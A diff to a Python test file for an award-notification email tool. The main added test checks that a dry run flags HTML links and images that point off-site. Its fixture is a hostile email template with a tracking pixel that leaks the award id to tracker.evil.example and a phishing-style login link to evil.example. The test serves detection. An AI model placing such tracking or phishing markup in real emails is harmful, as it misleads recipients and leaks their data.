@@ -166,6 +166,26 @@ def test_dry_run_sends_nothing_and_records_nothing(minimal_site, run, smtp):
     assert not (minimal_site / "site_src/notified.lock").exists()
 
 
+def test_a_dry_run_names_what_the_html_part_links_to_and_loads(minimal_site, run, smtp):
+    # (a review: a pull request's templates/email.html with a tracking image and a link elsewhere
+    # passed check, and the dry run, which prints the plain part, showed neither)
+    build(run, minimal_site)
+    result = run("notify", "--dry-run", "--source", str(minimal_site), "--today", TODAY)
+    assert "HTML part (what most mail programs show):" in result.out
+    assert "  loads: cid:" in result.out and "not this site's" not in result.out, result.out  # (the built-in)
+    write_site(
+        minimal_site,
+        {
+            "templates/email.html": '<p>Hi</p><img src="https://tracker.evil.example/p.gif?a={{ award.id }}">'
+            '<a href="https://evil.example/login">Claim</a><a href="{{ award.url }}">Yours</a>'
+        },
+    )
+    result = run("notify", "--dry-run", "--source", str(minimal_site), "--today", TODAY)
+    assert "  links to: https://evil.example/login  (not this site's: check it)" in result.out, result.out
+    assert "  loads: https://tracker.evil.example/p.gif?a=ann-first-1  (not this site's: check it)" in result.out
+    assert "/awards/ann-first-1/\n" in result.out  # (the award's own page: not marked)
+
+
 def test_a_dry_run_can_save_the_messages_to_open_in_a_mail_program(minimal_site, run, smtp, tmp_path):
     # (provider UX review: a dry run printed only the plain text; the HTML could not be looked at)
     build(run, minimal_site)
@@ -303,7 +323,7 @@ def test_a_message_the_server_may_have_taken_is_never_sent_again(minimal_site, r
     assert (
         "maybe sent for ann-first-1 (ann@example.com): connection lost after the whole message was sent" in result.err
     )
-    assert "delete the line of ann-first-1 this run added there and run notify again" in result.err
+    assert "if ann@example.com did not get it, send it again with notify --award ann-first-1" in result.err
     assert "1 maybe sent, 0 failed" in result.out and "commit site_src/notified.lock" in result.out
     assert read_notified(minimal_site / "site_src/notified.lock") == {"ann-first-1", "cat-1"}
     again = run("notify", "--source", str(minimal_site), "--today", TODAY, *FAST)
